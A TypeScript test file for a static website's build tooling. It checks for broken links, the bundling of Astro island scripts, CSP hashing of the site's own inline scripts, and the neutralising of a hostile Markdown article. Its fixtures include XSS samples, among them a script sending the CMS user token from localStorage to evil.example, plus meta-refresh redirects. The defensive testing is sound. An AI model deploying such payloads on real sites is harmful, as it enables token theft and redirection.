import { createHash } from "node:crypto"
import { join } from "node:path"
import { pathToFileURL } from "node:url"

import { describe, expect, it } from "vitest"

import { markdownProcessor } from "../../src/lib/content/markdown"
import { FONTS_FROM_FIRST_PAINT, SITE_INLINE_SCRIPTS } from "../../src/lib/web-fonts"
import { astroInlineScripts, SITE_DIRECTIVES } from "./astro-scripts"
import { contentSecurityPolicy } from "./headers"
import { brokenLinks, moveIslandScripts, siteScriptHashes } from "./html"

const hashOf = (body: string) => `sha256-${createHash("sha256").update(body).digest("base64")}`

describe("brokenLinks", () => {
  const pages = {
    "/": '<a href="#main">Skip</a><main id="main"><a href="/about">About</a> <a href="/about#team">Team</a></main>',
    "/about": '<section id="team"></section><a class="x" href="/">Home</a> <a href="https://example.com/x">x</a>',
    "/blog/a": '<a href="/og-image.jpg">Preview</a> <a href="#how">How</a> <h2 id="how">How</h2>',
    "/services":
      '<a href="/contcat">Contact</a> <a href="/about#teem">Team</a> <a href="/about/?from=services">About</a>' +
      '<a href="#prices">Prices</a>',
  }
  const isFile = (path: string) => path === "/og-image.jpg"

  it("passes links to pages, their parts and built files, and leaves other sites alone", () => {
    const { "/services": _, ...good } = pages
    expect(brokenLinks(good, isFile)).toEqual([])
  })

  it("names each link to a page that does not exist, or to a part its page does not have", () => {
    expect(brokenLinks(pages, isFile)).toEqual([
      "/services links to /contcat: there is no such page",
      '/services links to /about#teem: that page has no part "#teem"',
      '/services links to #prices: that page has no part "#prices"',
    ])
  })

  it("checks the links an island holds as data, named by where they are written", () => {
    const { "/services": _, ...good } = pages
    expect(
      brokenLinks(good, isFile, { "The chat helper (labels.json)": ["/about", "/servcies", "/about#team"] }),
    ).toEqual(["The chat helper (labels.json) links to /servcies: there is no such page"])
  })
})

describe("moveIslandScripts", async () => {
  // Astro's own texts, as it writes them into a page (getPrescripts in astro/dist/runtime/server/scripts.js).
  const scripts = await astroInlineScripts(SITE_DIRECTIVES, new URL(`file://${process.cwd()}/`))
  const [runtime, idle, , , , visible, interaction] = scripts as [
    string,
    string,
    string,
    string,
    string,
    string,
    string,
  ]
  const head = `<head><title>x</title><script>try{localStorage}catch{}</script></head>`
  const page = (...scripts: string[]) =>
    `<html>${head}<body>${scripts.map((s) => `<script>${s}</script>`).join("")}<astro-island></astro-island>` +
    `<script type="application/ld+json">{}</script><script type="module" src="/_astro/page.a1.js"></script></body></html>`

  it("moves Astro's island scripts of every page into one file, each once, and loads it deferred at low priority", () => {
    const { pages, code, islands } = moveIslandScripts(
      { "/": page(visible, runtime), "/a": page(idle, interaction, runtime) },
      () => "/i.js",
      scripts,
    )
    expect([code, islands]).toEqual([`${visible}\n${runtime}\n${idle}\n${interaction}`, 2])
    expect(interaction).toContain("(self.Astro||(self.Astro={})).interaction=")
    const tag = `<script src="/i.js" defer fetchpriority="low"></script>`
    expect(pages["/"]).toBe(
      `<html><head><title>x</title><script>try{localStorage}catch{}</script>${tag}</head><body><astro-island></astro-island>` +
        `<script type="application/ld+json">{}</script><script type="module" fetchpriority="low" src="/_astro/page.a1.js"></script></body></html>`,
    )
    expect(pages["/a"]).toContain(tag)
    expect(pages["/a"]).not.toContain("self.Astro")
  })

  it("leaves a page without islands without the file, and changes nothing when no page has islands", () => {
    const plain = `<html>${head}<body></body></html>`
    const { pages } = moveIslandScripts({ "/": page(runtime), "/plain": plain }, () => "/i.js", scripts)
    expect(pages["/plain"]).toBe(plain)
    expect(moveIslandScripts({ "/plain": plain }, () => "/i.js", scripts)).toEqual({
      pages: { "/plain": plain },
      code: "",
      islands: 0,
    })
  })

  it("moves only Astro's exact texts: a look-alike stays, and islands with nothing moved are counted", () => {
    const lookAlike = runtime.replace("astro-island", "astro-isIand")
    const { pages, code, islands } = moveIslandScripts({ "/": page(lookAlike) }, () => "/i.js", scripts)
    expect([code, islands]).toEqual(["", 1])
    expect(pages["/"]).toContain(lookAlike)
  })
})

describe("siteScriptHashes", () => {
  const own = `<script>${FONTS_FROM_FIRST_PAINT}</script>`
  const ldJson = `<script type="application/ld+json">{"@type":"Article"}</script>`

  it("hashes the site's own inline scripts only, and skips structured data and files", () => {
    const pages = { "/": `<head>${own}${ldJson}<script type="module" src="/_astro/a.js"></script></head>`, "/a": own }
    expect(siteScriptHashes(pages, SITE_INLINE_SCRIPTS)).toEqual({
      hashes: [hashOf(FONTS_FROM_FIRST_PAINT)],
      foreign: [],
    })
  })

  it("gives no hash to any other inline script, whatever its spelling, and names each page that has one", () => {
    const pages = {
      "/": own,
      "/blog/a": `${own}<p><script>alert(document.cookie)</script></p>`,
      "/blog/b": `<SCRIPT type="text/javascript">alert(1)</SCRIPT><script type=module>import("//evil.example")</script>`,
    }
    const { hashes, foreign } = siteScriptHashes(pages, SITE_INLINE_SCRIPTS)
    expect(hashes).toEqual([hashOf(FONTS_FROM_FIRST_PAINT)])
    expect(foreign).toEqual([
      '/blog/a has an inline script the site did not write: "alert(document.cookie)"',
      '/blog/b has an inline script the site did not write: "alert(1)"',
      '/blog/b has an inline script the site did not write: "import(\\"//evil.example\\")"',
    ])
  })
})

describe("an article with a script and a refresh that got past the content check (issue 57)", () => {
  const hostile = [
    "# Spring clean",
    "",
    "<script>fetch('https://evil.example/?t='+localStorage.getItem('decap-cms-user'))</script>",
    "",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "",
    'Read more <script>alert(1)</script> and <META HTTP-EQUIV="Refresh" CONTENT="0;URL=https://evil.example/">.',
  ].join("\n")

  it("is built with the script and the refresh as text: no hash in the policy, no refresh, no foreign script", async () => {
    const renderer = await markdownProcessor.createRenderer({ syntaxHighlight: false } as never)
    const file = pathToFileURL(join(process.cwd(), "content/blog/spring-clean.md"))
    const { code: article } = await renderer.render(hostile, { fileURL: file } as never)
    const html = `<html><head><script>${FONTS_FROM_FIRST_PAINT}</script></head><body><article>${article}</article></body></html>`
    expect(html).not.toMatch(/<meta/i)
    const { hashes, foreign } = siteScriptHashes({ "/blog/spring-clean": html }, SITE_INLINE_SCRIPTS)
    expect([hashes, foreign]).toEqual([[hashOf(FONTS_FROM_FIRST_PAINT)], []])
    const scriptSrc = /script-src ([^;]*)/.exec(contentSecurityPolicy(hashes, {}))![1]
    expect(scriptSrc).toBe(`'self' '${hashOf(FONTS_FROM_FIRST_PAINT)}'`)
  })
})
